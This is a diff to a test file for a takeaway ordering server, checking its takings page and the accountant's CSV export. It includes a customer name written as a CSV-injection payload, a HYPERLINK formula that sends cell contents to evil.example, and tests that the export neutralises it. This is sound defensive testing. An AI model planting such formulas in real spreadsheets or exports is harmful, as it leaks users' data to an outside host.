@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { paidOrder, type Approval } from './payPalSupport';
-import { leedsAddress, startOrderingServer, type OrderingServer } from './orderingServer';
+import { leedsAddress, startOrderingServer, type OrderingServer, type PlacedOrder } from './orderingServer';
 
 // The owner's takings and the accountant's CSV (docs/back-office.md, "Takings"), from known orders placed through the
 // real calls: cash, PayPal and card (the loopback PayPal fake), collection and delivery, one refused, one cancelled.
@@ -8,6 +8,9 @@ import { leedsAddress, startOrderingServer, type OrderingServer } from './orderi
 let ordering: OrderingServer;
 let ownerToken: string;
 const placed: Record<string, string> = {};
+const numbers: Record<string, number> = {};
+/** A customer's name is what they typed: one written as a spreadsheet formula, with a comma and a quote. */
+const formulaName = '=HYPERLINK("http://evil.example/?"&A1, "Ada")';
 
 const card: Approval = { paymentSource: 'card', card: { number: '4111111111111111', expiry: '12/30', securityCode: '123' } };
 const twoStarters = { orderItems: [{ categoryId: 1, itemId: 109, quantity: 2, title: 'Mixed Starter for Two', itemCost: 0, lineCost: 0 }] };
@@ -23,29 +26,33 @@ beforeAll(async () => {
   ordering = await startOrderingServer();
   ownerToken = await ordering.ownerToken();
 
+  const remember = (key: string, order: PlacedOrder) => {
+    placed[key] = order.orderRef;
+    numbers[key] = order.orderNumber;
+  };
   ordering.now = tuesdayAt('18:00');
-  placed.cash = (await ordering.requestedOrder()).orderRef;
+  remember('cash', await ordering.requestedOrder());
   await accept(placed.cash);
   ordering.now = tuesdayAt('18:05');
-  placed.payPal = (await paidOrder(ordering)).orderRef;
+  remember('payPal', await paidOrder(ordering));
   await accept(placed.payPal);
   ordering.now = tuesdayAt('18:10');
-  placed.card = (await paidOrder(ordering, card)).orderRef;
+  remember('card', await paidOrder(ordering, card));
   await accept(placed.card);
   ordering.now = tuesdayAt('18:15');
-  placed.delivery = (await ordering.requestedOrder({ orderType: 2, deliveryAddress: leedsAddress })).orderRef;
+  remember('delivery', await ordering.requestedOrder({ orderType: 2, deliveryAddress: leedsAddress, name: formulaName }));
   await accept(placed.delivery);
   ordering.now = tuesdayAt('18:20');
-  placed.refused = (await ordering.requestedOrder(twoStarters)).orderRef;
+  remember('refused', await ordering.requestedOrder(twoStarters));
   const refusal = await ordering.post(`/kitchen/orders/${placed.refused}/refuse`, { reason: 'Out of prawns, sorry' }, await ordering.staffToken());
   expect(refusal.status).toBe(200);
   ordering.now = tuesdayAt('18:25');
   const cancelled = await ordering.requestedOrder();
-  placed.cancelled = cancelled.orderRef;
+  remember('cancelled', cancelled);
   expect((await ordering.post(`/orderbuilder/cancel/${cancelled.basketId}`)).status).toBe(200);
   // The next evening's: outside Tuesday's takings.
   ordering.now = new Date('2026-11-25T18:00:00Z');
-  placed.wednesday = (await ordering.requestedOrder()).orderRef;
+  remember('wednesday', await ordering.requestedOrder());
 });
 afterAll(() => ordering?.close());
 
@@ -64,6 +71,8 @@ describe('GET /manage/takings', () => {
     ]);
     expect(takings.orders[0]).toEqual({
       orderRef: placed.cash,
+      orderNumber: 1,
+      name: 'Ada Lovelace',
       placedAt: '2026-11-24T18:00:00.000Z',
       orderType: 'collection',
       payment: 'cash',
@@ -76,6 +85,8 @@ describe('GET /manage/takings', () => {
       counted: true,
       reason: null,
     });
+    // The day's numbers, in the order the orders were placed.
+    expect(takings.orders.map((order: { orderNumber: number }) => order.orderNumber)).toEqual([1, 2, 3, 4, 5, 6]);
     expect(takings.orders.map((order: { payment: string; orderType: string; status: string; counted: boolean; reason: string | null }) => [
       order.payment,
       order.orderType,
@@ -129,26 +140,89 @@ describe('GET /manage/takings', () => {
 /** An order reference as a spreadsheet must read it: one that starts like a formula ("-2zz…", 1 in 64) is kept as text by a leading apostrophe. */
 const asText = (reference: string) => (/^[=+\-@]/.test(reference) ? `'${reference}` : reference);
 
+/** The CSV as the accountant's spreadsheet reads it: fields (RFC 4180 quoting undone) of each line after the header. */
+function csvRows(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let index = 0; index < text.length; index += 1) {
+    const character = text[index];
+    if (quoted) {
+      if (character === '"' && text[index + 1] === '"') {
+        field += '"';
+        index += 1;
+      } else if (character === '"') quoted = false;
+      else field += character;
+    } else if (character === '"') quoted = true;
+    else if (character === ',') {
+      row.push(field);
+      field = '';
+    } else if (character === '\r' && text[index + 1] === '\n') {
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = '';
+      index += 1;
+    } else field += character;
+  }
+  return rows;
+}
+
+async function takingsCsv(from: string, to: string): Promise<{ response: Response; text: string }> {
+  const response = await fetch(`${ordering.server.url}/api/manage/takings/csv?from=${from}&to=${to}`, {
+    headers: { 'x-application-key': 'takeaway-web', 'x-site-key': 'demo-site', authorization: `Bearer ${ownerToken}` },
+  });
+  return { response, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer()) };
+}
+
+const pence = (pounds: string) => Math.round(Number(pounds) * 100);
+
 describe('GET /manage/takings/csv', () => {
-  it('answers the accountant one line per order after a header, in pounds, dated in London', async () => {
-    const response = await fetch(`${ordering.server.url}/api/manage/takings/csv?from=2026-11-24&to=2026-11-25`, {
-      headers: { 'x-application-key': 'takeaway-web', 'x-site-key': 'demo-site', authorization: `Bearer ${ownerToken}` },
-    });
+  it('answers the accountant one line per order after a header: its number, the customer, what was taken and what was not', async () => {
+    const { response, text } = await takingsCsv('2026-11-24', '2026-11-25');
     expect(response.status).toBe(200);
     expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
     expect(response.headers.get('content-disposition')).toBe('attachment; filename="takings-2026-11-24-to-2026-11-25.csv"');
-    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
     expect(text.startsWith('\uFEFF')).toBe(true);
+    // The formula a customer typed as their name is kept as text (a leading apostrophe), its quotes and comma quoted.
+    const formulaNameField = `"'${formulaName.replace(/"/g, '""')}"`;
     expect(text.slice(1).split('\r\n')).toEqual([
-      'Date,Time,Reference,Type,Payment,Item total,Discount,Delivery,Bag,Total,Status',
-      `24/11/2026,18:00,${asText(placed.cash)},Collection,Cash,13.90,0.00,0.00,0.10,14.00,Accepted`,
-      `24/11/2026,18:05,${asText(placed.payPal)},Collection,PayPal,13.90,0.00,0.00,0.10,14.00,Accepted`,
-      `24/11/2026,18:10,${asText(placed.card)},Collection,Card,13.90,0.00,0.00,0.10,14.00,Accepted`,
-      `24/11/2026,18:15,${asText(placed.delivery)},Delivery,Cash,13.90,0.00,1.50,0.10,15.50,Accepted`,
-      `24/11/2026,18:20,${asText(placed.refused)},Collection,Cash,27.80,0.00,0.00,0.10,27.90,"Refused: Out of prawns, sorry"`,
-      `24/11/2026,18:25,${asText(placed.cancelled)},Collection,Cash,13.90,0.00,0.00,0.10,14.00,Cancelled: The customer cancelled`,
-      `25/11/2026,18:00,${asText(placed.wednesday)},Collection,Cash,13.90,0.00,0.00,0.10,14.00,Waiting`,
+      'Date,Time,Order,Name,Type,Payment,Item total,Discount,Delivery,Bag,Total,Not taken,Status,Reference',
+      `24/11/2026,18:00,1,Ada Lovelace,Collection,Cash,13.90,0.00,0.00,0.10,14.00,0.00,Accepted,${asText(placed.cash)}`,
+      `24/11/2026,18:05,2,Ada Lovelace,Collection,PayPal,13.90,0.00,0.00,0.10,14.00,0.00,Accepted,${asText(placed.payPal)}`,
+      `24/11/2026,18:10,3,Ada Lovelace,Collection,Card,13.90,0.00,0.00,0.10,14.00,0.00,Accepted,${asText(placed.card)}`,
+      `24/11/2026,18:15,4,${formulaNameField},Delivery,Cash,13.90,0.00,1.50,0.10,15.50,0.00,Accepted,${asText(placed.delivery)}`,
+      `24/11/2026,18:20,5,Ada Lovelace,Collection,Cash,0.00,0.00,0.00,0.00,0.00,27.90,"Refused: Out of prawns, sorry",${asText(placed.refused)}`,
+      `24/11/2026,18:25,6,Ada Lovelace,Collection,Cash,0.00,0.00,0.00,0.00,0.00,14.00,Cancelled: The customer cancelled,${asText(placed.cancelled)}`,
+      // Wednesday's first order is its day's number 1 again.
+      `25/11/2026,18:00,1,Ada Lovelace,Collection,Cash,13.90,0.00,0.00,0.10,14.00,0.00,Waiting,${asText(placed.wednesday)}`,
       '',
     ]);
+    expect(numbers).toMatchObject({ cash: 1, refused: 5, cancelled: 6, wednesday: 1 });
+  });
+
+  it("sums, column by column, to the takings page's totals for the same range, with the refused and cancelled orders listed", async () => {
+    for (const [from, to] of [
+      ['2026-11-24', '2026-11-24'],
+      ['2026-11-24', '2026-11-25'],
+    ]) {
+      const { text } = await takingsCsv(from, to);
+      const [header, ...rows] = csvRows(text.slice(1));
+      const column = (name: string) => rows.map((row) => pence(row[header.indexOf(name)]));
+      const sum = (name: string) => column(name).reduce((total, amount) => total + amount, 0);
+      const page = (await ordering.call(`/manage/takings?from=${from}&to=${to}`, { token: ownerToken })).body.data;
+
+      expect(rows).toHaveLength(page.orders.length);
+      expect(rows.map((row) => row[header.indexOf('Status')]).filter((status) => /^(Refused|Cancelled)/.test(status))).toHaveLength(2);
+      expect(sum('Total')).toBe(pence(String(page.totals.total)));
+      expect(sum('Item total')).toBe(pence(String(page.totals.itemTotal)));
+      expect(sum('Delivery')).toBe(pence(String(page.totals.delivery)));
+      expect(sum('Bag')).toBe(pence(String(page.totals.bag)));
+      expect(sum('Discount')).toBe(pence(String(page.totals.discount)));
+      // What fell through is not lost: its value is under "Not taken".
+      const notCounted = page.orders.filter((order: { counted: boolean }) => !order.counted);
+      expect(sum('Not taken')).toBe(notCounted.reduce((total: number, order: { total: number }) => total + pence(String(order.total)), 0));
+    }
   });
 });
